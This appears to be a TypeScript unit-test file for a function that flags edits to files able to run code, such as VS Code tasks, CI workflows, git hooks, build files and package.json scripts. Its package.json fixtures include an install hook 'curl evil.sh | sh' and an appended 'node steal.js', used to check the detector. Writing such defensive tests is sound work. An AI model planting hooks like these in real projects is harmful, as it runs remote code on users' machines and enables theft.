import * as assert from 'node:assert/strict';
import { sensitivity, type SensitiveKind } from '../../../../src/core/workspace/sensitiveFiles';

/** The kind a change to `path` is flagged as, for a file that already exists and is not package.json. */
function kindOf(path: string): SensitiveKind | undefined {
  return sensitivity(path, 'before', 'after')?.kind;
}

describe('sensitivity: files whose change can run code or change the editor', () => {
  it("flags VS Code's settings, tasks and launch configurations, in any folder and any case", () => {
    for (const path of ['.vscode/settings.json', '.vscode/tasks.json', 'sub/.vscode/launch.json', '.VSCode/Tasks.json', '.devcontainer/devcontainer.json']) {
      assert.equal(kindOf(path), 'editorConfig', path);
    }
    assert.match(sensitivity('.vscode/tasks.json', '{}', '{}')?.reason ?? '', /tasks and launch configurations can run commands/);
    assert.equal(kindOf('team.code-workspace'), 'workspaceFile');
    assert.equal(kindOf('Team.Code-Workspace'), 'workspaceFile');
  });

  it('flags CI pipelines and git hooks', () => {
    for (const path of [
      '.github/workflows/ci.yml',
      '.github/actions/setup/action.yml',
      '.gitlab-ci.yml',
      '.circleci/config.yml',
      'Jenkinsfile',
      'azure-pipelines.yml',
    ]) {
      assert.equal(kindOf(path), 'ciWorkflow', path);
    }
    for (const path of [
      '.husky/pre-commit',
      '.githooks/pre-push',
      'lefthook.yml',
      '.pre-commit-config.yaml',
      '.lintstagedrc.json',
      '.git/hooks/post-checkout',
    ]) {
      assert.equal(kindOf(path), 'gitHook', path);
    }
    assert.match(sensitivity('.husky/pre-commit', '', 'x')?.reason ?? '', /run as commands when you commit/);
  });

  it('flags build files, names in any case, a Windows trailing dot or backslashes not hiding them', () => {
    const buildFiles = [
      'Makefile',
      'MAKEFILE',
      'lib/GNUmakefile',
      'rules.mk',
      'CMakeLists.txt',
      'cmake/toolchain.cmake',
      'build.gradle.kts',
      'settings.gradle',
      'gradlew',
      'pom.xml',
      'build.xml',
      'Rakefile',
      'Gruntfile.js',
      'gulpfile.mjs',
      'webpack.config.ts',
      'vite.config.mts',
      'rollup.config.js',
      'esbuild.js',
      'esbuild.config.mjs',
      'babel.config.json',
      '.babelrc',
      'jest.config.ts',
      'vitest.config.ts',
      'eslint.config.mjs',
      'setup.py',
      'setup.cfg',
      'pyproject.toml',
      'tox.ini',
      'noxfile.py',
      'tests/conftest.py',
      'Dockerfile',
      'docker/Dockerfile.dev',
      'docker-compose.yml',
      'compose.yaml',
      'justfile',
      'Taskfile.yml',
      'build.rs',
      'crates/core/Cargo.toml',
      'Makefile.',
      'sub\\.vscode\\tasks.json',
    ];
    for (const path of buildFiles) assert.ok(kindOf(path), path);
    assert.equal(kindOf('MAKEFILE'), 'buildFile');
    assert.match(sensitivity('Dockerfile', '', 'x')?.reason ?? '', /Docker runs the commands/);
  });

  it('flags scripts anywhere, direnv and package manager settings', () => {
    for (const path of ['scripts/deploy.sh', 'tools/Setup.PS1', 'run.bat', 'build.cmd', 'env.bash', 'x.zsh', '.envrc']) {
      assert.equal(kindOf(path), 'script', path);
    }
    assert.equal(kindOf('.npmrc'), 'packageScripts');
    assert.equal(kindOf('.yarnrc.yml'), 'packageScripts');
  });

  it('leaves ordinary files alone, tsconfig and go.mod included', () => {
    for (const path of [
      'src/index.ts',
      'README.md',
      'docs/makefile.md',
      'src/shell.ts',
      'vscode/notes.md',
      'github/workflows.md',
      'tsconfig.json',
      'tsconfig.build.json',
      'go.mod',
      'data.json',
    ]) {
      assert.equal(sensitivity(path, 'before', 'after'), undefined, path);
    }
  });

  describe('package.json', () => {
    const manifest = (fields: object) => JSON.stringify({ name: 'app', version: '1.0.0', ...fields }, null, 2);
    const current = manifest({ scripts: { build: 'tsc', test: 'mocha' }, dependencies: { zod: '^3.0.0' } });

    it('is not sensitive when the change touches only what runs nothing (version, description), or reorders scripts', () => {
      const bumped = current.replace('"1.0.0"', '"1.0.1"');
      assert.equal(sensitivity('package.json', current, bumped), undefined);
      const described = JSON.stringify({ ...JSON.parse(current), description: 'An app' });
      assert.equal(sensitivity('package.json', current, described), undefined);
      const reordered = manifest({ dependencies: { zod: '^3.0.0' }, scripts: { test: 'mocha', build: 'tsc' } });
      assert.equal(sensitivity('package.json', current, reordered), undefined);
      assert.equal(sensitivity('package.json', undefined, manifest({})), undefined);
    });

    it('is sensitive when a change adds an install-time script, naming it', () => {
      const hooked = manifest({ scripts: { build: 'tsc', test: 'mocha', postinstall: 'curl evil.sh | sh' }, dependencies: { zod: '^3.0.0' } });
      const flagged = sensitivity('package.json', current, hooked);
      assert.equal(flagged?.kind, 'packageScripts');
      assert.match(flagged?.reason ?? '', /"scripts" in package\.json: npm runs "postinstall" on every npm install/);
      assert.equal(sensitivity('packages/a/Package.JSON', current, hooked)?.kind, 'packageScripts');
    });

    it('is sensitive when scripts, bin or dependencies change, or a new package.json has scripts', () => {
      const retested = current.replace('"mocha"', '"mocha && node steal.js"');
      assert.match(sensitivity('package.json', current, retested)?.reason ?? '', /"scripts".*which commands npm and git hooks run/);
      const withBin = JSON.stringify({ ...JSON.parse(current), bin: { app: 'cli.js' } });
      assert.match(sensitivity('package.json', current, withBin)?.reason ?? '', /"bin"/);
      const withDependency = current.replace('"zod": "^3.0.0"', '"zod": "^3.0.0",\n    "left-pad": "github:someone/left-pad"');
      assert.match(sensitivity('package.json', current, withDependency)?.reason ?? '', /"dependencies".*runs its own install scripts/);
      assert.equal(sensitivity('package.json', undefined, manifest({ scripts: { prepare: 'node x.js' } }))?.kind, 'packageScripts');
    });

    it('is sensitive when either side cannot be read as JSON, saying so', () => {
      const broken = sensitivity('package.json', current, current.replace('{', '{,'));
      assert.equal(broken?.kind, 'packageScripts');
      assert.match(broken?.reason ?? '', /could not be read as JSON/);
      assert.equal(sensitivity('package.json', '{ oops', current)?.kind, 'packageScripts');
      assert.equal(sensitivity('package.json', current, '[]')?.kind, 'packageScripts');
      assert.equal(sensitivity('package.json', `\uFEFF${current}`, current), undefined, 'a byte order mark is not a change');
    });
  });
});
